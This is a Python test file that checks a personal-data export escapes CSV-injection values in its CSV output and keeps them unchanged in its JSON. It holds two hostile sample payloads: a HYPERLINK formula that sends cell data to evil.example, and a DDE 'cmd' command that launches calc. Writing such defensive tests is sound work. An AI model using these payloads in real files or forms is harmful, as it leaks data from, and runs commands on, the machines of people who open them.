"""Red-team pass of issue 14: a value that a spreadsheet runs as a formula (typed by the
person, or by anyone, into a form that feeds a connected system) does not run when staff
or the person open the export's CSV (OWASP: CSV injection). The JSON keeps it as is."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from pathlib import Path

from tests.subjects.conftest import DemoFactory
from tests.subjects.test_export import person_with, run_export

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CMD = "-2+3+cmd|' /C calc'!A0"


def test_formulas_are_defused_in_the_csv_and_kept_in_the_json(
    demo: DemoFactory, tmp_path: Path
) -> None:
    garant, truth = demo("alliance-francaise", persons=5)
    person = person_with(truth, "learners")
    email = person["identities"]["email"]
    with sqlite3.connect(tmp_path / "alliance-francaise.db") as db:
        db.execute(
            "UPDATE learners SET first_name = ?, last_name = ?, phone = ? WHERE email = ?",
            (FORMULA, CMD, "+33 6 12 34 56 78", email),
        )
    archive = run_export(garant, email, tmp_path / "p.zip", lang="en")
    rows = list(csv.reader(io.StringIO(archive.read("af/learners.csv").decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + FORMULA in cells and "'" + CMD in cells
    assert "+33 6 12 34 56 78" in cells  # a phone number is no formula
    assert not any(c.startswith(("=", "@")) for c in cells)
    records = json.loads(archive.read("af/learners.json"))["records"]
    assert {records[0]["first_name"], records[0]["last_name"]} == {FORMULA, CMD}


def test_each_text_of_a_column_is_defused_alone_whatever_the_others() -> None:
    """A column is checked by first characters before any regular expression (the grown
    customer's 1.4 million cells): every text that starts a formula is defused, the rest
    of the column, numbers and empty values included, is kept as it is."""
    from garant.subjects.writer import _spreadsheet_safe

    column = [5, None, "", "+", "-", "-1.99", "+33 6 12", "abc", "=1+2", "@SUM(A1)"]
    column += ["\tx", "\rx", "-2+3", "+cmd", 1.5]
    assert _spreadsheet_safe(column) == [
        5, None, "", "+", "-", "-1.99", "+33 6 12", "abc", "'=1+2", "'@SUM(A1)",
        "'\tx", "'\rx", "'-2+3", "'+cmd", 1.5,
    ]  # fmt: skip
    plain = ["2022-01-01T00:01:00+00:00", "1.99", None, 7, "Name 1"]
    assert _spreadsheet_safe(plain) is plain
